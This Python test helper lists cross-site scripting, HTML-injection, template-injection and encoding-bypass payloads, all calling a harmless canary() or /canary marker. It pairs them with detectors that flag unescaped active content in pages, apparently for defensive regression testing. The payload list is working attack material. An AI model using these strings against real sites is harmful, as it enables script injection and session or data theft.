"""Texts that would act if a page let them: our own list of the shapes that they come in.

Every one of them, once let through, leaves a mark that `active_content` finds in the source of a page or
`CANARY` in a browser: an element or attribute named `canary`, a request for /canary, a dialog.
"""

from collections.abc import Iterator
from html.parser import HTMLParser

_TAGS = (
    "<script>canary()</script>",
    "<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>",
    "<script type=module>import('/canary')</script>",
    "</script><script>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</style><script>canary()</script>",
    "</select></option><script>canary()</script>",
    "</noscript><script>canary()</script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\n>canary()</script\n>",
    "<script/canary>canary()</script>",
    "<<script>canary()//<</script>",
    "<img src=x onerror=canary()>",
    "<img src=/canary canary>",
    "<image src=/canary onerror=canary()>",
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:canary()><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,canary#x></svg>",
    "<math><mi canary xlink:href=javascript:canary()>x",
    "<iframe src=javascript:canary()></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<object data=/canary></object>",
    "<embed src=/canary>",
    "<base href=//canary.invalid/>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<link rel=prefetch href=/canary>",
    "<meta http-equiv=refresh content='0;url=/canary'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<style>@import '//canary.invalid/x.css';</style>",
    "<div style=\"background:url('/canary')\" canary>x</div>",
    "<form action=/canary><button autofocus canary>Accept</button></form>",
    "<input autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>",
    "<video><source onerror=canary()></video>",
    "<audio src=/canary onerror=canary()>",
    "<body onload=canary()>",
    "<marquee onstart=canary()>x</marquee>",
    "<dialog open canary>x</dialog>",
    "<template><script>canary()</script></template>",
    "<a href=javascript:canary() canary>x</a>",
    '<a href="jav\tascript:canary()" canary>x</a>',
    "<a href=data:text/html,<script>canary()</script> canary>x</a>",
    "<!--<img src=x onerror=canary()>-->",
    "--><img src=x onerror=canary()><!--",
    "<![CDATA[<img src=x onerror=canary()>]]>",
    "<?xml version='1.0'?><img src=x onerror=canary()>",
)
_ATTRIBUTES = (
    '" onmouseover="canary()" canary="',
    "' onmouseover='canary()' canary='",
    '" autofocus onfocus=canary() canary x="',
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    "` onmouseover=canary() canary `",
    '" hx-get="/canary" hx-trigger="load" canary="',
    '" hx-on:load="canary()" canary="',
    '"><div hx-get="/canary" hx-trigger="load"></div>',
    "<div data-hx-get=/canary data-hx-trigger=load canary></div>",
    "<div hx-on::load=canary() canary></div>",
    "<p hx-boost=true hx-swap-oob=true id=desk canary>x</p>",
    "<button formaction=/canary name=do value=finalise canary>x</button>",
    '" formaction="/canary" canary="',
)
_TEMPLATES = (
    "{{1333337*7777777}}",
    "{% print(1333337*7777777) %}",
    "${1333337*7777777}",
    "#{1333337*7777777}",
    "<%= 1333337*7777777 %>",
    "{{''.__class__.__mro__}}",
    "{{constructor.constructor('canary()')()}}",
    "{# canary #}",
)
_ADDRESSES = (
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "//canary.invalid/x",
    "/\\canary.invalid",
    "vbscript:canary()",
)
_CHARACTERS = (
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\u2039script\u203acanary()\u2039/script\u203a",
    "<\u200bscript>canary()</script>",
    "<img\u00a0src=x\u00a0onerror=canary()>",
    "<img/src=x/onerror=canary()>",
    "<IMG SRC=x ONERROR\u3000=canary()>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=canary()\\x3e",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "\u202e>tpircs/<)(yranac>tpircs<",
    "\ufeff<script>canary()</script>",
    "<scr\u0131pt>canary()</scr\u0131pt>",
    "\u2028<script>canary()</script>\u2029",
    "a\u0300\u0301<b canary>\U0001f600</b>",
    '{"x":"</script><script>canary()</script>"}',
    "canary')-alert(1)-('",
    "';canary();//",
    '\\";canary();//',
    "=cmd|' /C canary'!A0",
)
PAYLOADS = _TAGS + _ATTRIBUTES + _TEMPLATES + _ADDRESSES + _CHARACTERS
# More digits than any part of an identifier has: a shorter product stands in one by chance.
WORKED_OUT = ("10370397851849", "__main__", "<class ")
"""What templates would make of the sums and names above."""

CANARY = "window.canary = () => { window.sang = true; }"
"""Runs before a page does: what a text runs, sets `sang`."""
ACTIVE = """() => [...document.querySelectorAll('*')].flatMap((element) => {
  const found = [...element.attributes].filter(({ name, value }) =>
    /^on|canary/i.test(name) || (/^(href|src|action|formaction|xlink:href|data)$/i.test(name)
      && /^\\s*(java\\s*script|vbscript|data:text)|^(\\/\\/|\\/)canary/i.test(value))
    || (/^(data-)?hx-/i.test(name) && /canary/i.test(value)));
  const tag = element.localName;
  const odd = ['iframe', 'object', 'embed', 'base', 'marquee', 'video', 'audio', 'math'].includes(tag)
    || (tag === 'script' && !element.src) || (tag === 'style') || (tag === 'meta' && element.httpEquiv);
  return found.length || odd ? [element.outerHTML.slice(0, 160)] : [];
})"""
"""In a browser: the elements of a page that act, or that a text made."""

_SCHEMES = ("javascript:", "vbscript:", "data:text", "/canary", "//canary")
_LINKS = {"href", "src", "action", "formaction", "xlink:href", "data"}
_ODD = {"iframe", "object", "embed", "base", "marquee", "video", "audio", "math", "style", "image", "dialog"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = [(name.lower(), (value or "").strip().lower()) for name, value in attrs]
        names = {name for name, _ in given}
        if any(_acts(name, value) for name, value in given) or self._is_odd(tag, names, given):
            self.found.append((self.get_starttag_text() or tag)[:160])

    @staticmethod
    def _is_odd(tag: str, names: set[str], given: list[tuple[str, str]]) -> bool:
        ours = ("class", "app-dialog") in given or any(
            name == "class" and "app-dialog" in value for name, value in given
        )
        if tag == "dialog":
            return not ours
        return (
            tag in _ODD
            or (tag == "script" and "src" not in names)
            or (tag == "meta" and "http-equiv" in names)
        )


def _acts(name: str, value: str) -> bool:
    if name.startswith("on") or "canary" in name:
        return True
    if name in _LINKS:
        return value.startswith(_SCHEMES)
    return name.removeprefix("data-").startswith("hx-") and "canary" in value


def active_content(html: str) -> list[str]:
    """The tags of a page that act, or that only a text could have made."""
    reader = _Reader()
    reader.feed(html)
    return reader.found


def unescaped(html: str) -> Iterator[str]:
    """Texts of the list that stand in a page as they were sent, although they hold what is markup."""
    for payload in PAYLOADS:
        if any(character in payload for character in "<>\"'") and payload in html:
            yield payload
